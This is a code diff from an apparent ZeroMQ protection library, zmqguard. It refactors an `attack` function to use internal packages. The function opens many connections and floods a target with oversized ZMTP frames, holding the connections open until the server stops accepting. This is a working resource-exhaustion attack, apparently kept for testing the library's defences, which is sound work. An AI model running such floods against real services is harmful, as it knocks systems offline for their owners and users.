@@ -37,6 +37,8 @@ import (
 
 	"github.com/go-zeromq/zmq4"
 	"github.com/zmqguard/zmqguard/decodeguard"
+	"github.com/zmqguard/zmqguard/internal/zmtpaccess"
+	"github.com/zmqguard/zmqguard/internal/zmtpwire"
 	"github.com/zmqguard/zmqguard/socket"
 	"github.com/zmqguard/zmqguard/zmtpguard"
 )
@@ -226,7 +228,7 @@ func attack(addr string, conns, size int, hold time.Duration) {
 	body := make([]byte, size-1)
 	last := []byte{0}
 	hdr := make([]byte, 9)
-	hdr[0] = zmtpguard.FlagLong
+	hdr[0] = zmtpwire.FlagLong
 	binary.BigEndian.PutUint64(hdr[1:], uint64(size))
 	sem := make(chan struct{}, 32)
 	var wg sync.WaitGroup
@@ -251,17 +253,17 @@ func attack(addr string, conns, size int, hold time.Duration) {
 			open++
 			held = append(held, c)
 			mu.Unlock()
-			c.NetConn().SetWriteDeadline(time.Now().Add(hold))
-			c.NetConn().Write(hdr)
-			c.NetConn().Write(body)
+			zmtpaccess.NetConn(c).SetWriteDeadline(time.Now().Add(hold))
+			zmtpaccess.NetConn(c).Write(hdr)
+			zmtpaccess.NetConn(c).Write(body)
 			for flood {
 				// Complete the message and send more, until the target
 				// stops taking them or the hold ends.
-				if _, err := c.NetConn().Write(last); err != nil {
+				if _, err := zmtpaccess.NetConn(c).Write(last); err != nil {
 					return
 				}
-				c.NetConn().Write(hdr)
-				if _, err := c.NetConn().Write(body); err != nil {
+				zmtpaccess.NetConn(c).Write(hdr)
+				if _, err := zmtpaccess.NetConn(c).Write(body); err != nil {
 					return
 				}
 			}
